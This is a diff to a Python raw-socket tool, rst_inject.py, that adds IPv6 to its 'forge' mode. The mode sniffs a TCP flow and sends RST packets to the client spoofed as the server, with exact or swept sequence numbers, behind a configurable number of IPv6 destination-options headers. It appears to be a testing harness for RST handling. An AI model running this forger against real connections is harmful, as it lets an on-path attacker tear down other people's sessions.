@@ -6,11 +6,12 @@
       An LB-style idle timeout: watch the flow to/from PORT through IFACE
       (both directions), and once it has been idle S seconds reset both
       ends with exactly the sequence numbers each expects, unprompted.
-  rst_inject.py forge IFACE PORT --ttl T --count N --jump J
+  rst_inject.py forge IFACE PORT --ttl T --count N --jump J [--exts E]
       An on-path forger: 0.3 s into the server's data, right behind one
       of its segments, send N RSTs to the client spoofing the server, with
       TTL T and sequence numbers jumping by J from the expected one (a
-      sweep; --jump 0 --count 1 is one exact, accepted forgery).
+      sweep; --jump 0 --count 1 is one exact, accepted forgery).  Over
+      IPv6 each RST sits behind E destination-options headers (default 1).
   rst_inject.py ext6 IFACE PORT --src S --dst D --count N
       N IPv6 RSTs from S port 5001 to D port PORT out of IFACE at once,
       each behind a destination-options header, as a host whose socket
@@ -55,19 +56,33 @@ def rst_packet(src, dst, sport, dport, seq, ttl, ack=None):
     return ip + tcp
 
 
-def rst6_ext_packet(src, dst, sport, dport, seq):
-    """An RST behind a destination-options header holding one PadN."""
+def rst6_ext_packet(src, dst, sport, dport, seq, exts=1, hops=64):
+    """An RST behind EXTS destination-options headers, one PadN each."""
     a, b = socket.inet_pton(socket.AF_INET6, src), \
         socket.inet_pton(socket.AF_INET6, dst)
     tcp = tcp_rst(sport, dport, seq, None,
                   lambda n: a + b + struct.pack("!IxxxB", n, 6))
-    dstopts = bytes([6, 0, 1, 4, 0, 0, 0, 0])
-    ip = struct.pack("!IHBB", 6 << 28, len(dstopts) + len(tcp), 60, 64)
+    dstopts = b"".join(bytes([60 if k < exts - 1 else 6, 0, 1, 4, 0, 0, 0, 0])
+                       for k in range(exts))
+    ip = struct.pack("!IHBB", 6 << 28, len(dstopts) + len(tcp), 60, hops)
     return ip + a + b + dstopts + tcp
+
+
+def parse6(ip):
+    """parse()'s answer for an IPv6 packet IP with TCP right behind it."""
+    if len(ip) < 60 or ip[6] != 6:
+        return None
+    sport, dport, seq, ack, off, flags = struct.unpack("!HHIIBB", ip[40:54])
+    plen = struct.unpack("!H", ip[4:6])[0] - (off >> 4) * 4
+    return (socket.inet_ntop(socket.AF_INET6, ip[8:24]),
+            socket.inet_ntop(socket.AF_INET6, ip[24:40]),
+            sport, dport, seq, ack, flags, plen)
 
 
 def parse(frame):
     """(src, dst, sport, dport, seq, ack, flags, payload_len) or None."""
+    if len(frame) >= 74 and frame[12:14] == b"\x86\xdd":
+        return parse6(frame[14:])
     if len(frame) < 54 or frame[12:14] != b"\x08\x00":
         return None
     ip = frame[14:]
@@ -115,7 +130,7 @@ def lb(a, raw):
                 return 0
             continue
         src, dst, sport, dport, seq, ack, flags, plen = p
-        if a.port not in (sport, dport) or flags & 0x04:
+        if a.port not in (sport, dport) or flags & 0x04 or ":" in src:
             continue
         nxt[(src, sport)] = (dst, dport,
                              (seq + plen + (1 if flags & 0x03 else 0)) % 2**32)
@@ -124,6 +139,7 @@ def lb(a, raw):
 
 
 def forge(a, raw):
+    raw6 = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
     first = None
     for p in packets(a.iface, a.timeout):
         if p is None:
@@ -137,8 +153,13 @@ def forge(a, raw):
         # Right behind a server segment: seq + plen is what the client
         # expects now (--jump 0 forges an exact, accepted RST).
         for k in range(1, a.count + 1):
-            send(raw, rst_packet(src, dst, sport, dport,
-                                 (seq + plen + k * a.jump) % 2**32, a.ttl), dst)
+            nseq = (seq + plen + k * a.jump) % 2**32
+            if ":" in src:
+                raw6.sendto(rst6_ext_packet(src, dst, sport, dport, nseq,
+                                            a.exts, a.ttl), (dst, 0))
+            else:
+                send(raw, rst_packet(src, dst, sport, dport, nseq, a.ttl),
+                     dst)
         print("forged %d RSTs" % a.count, flush=True)
         return 0
     return 1
@@ -163,6 +184,7 @@ def main():
     ap.add_argument("--ttl", type=int, default=40)
     ap.add_argument("--count", type=int, default=3)
     ap.add_argument("--jump", type=int, default=1000000)
+    ap.add_argument("--exts", type=int, default=1)
     ap.add_argument("--timeout", type=float, default=20)
     ap.add_argument("--src")
     ap.add_argument("--dst")
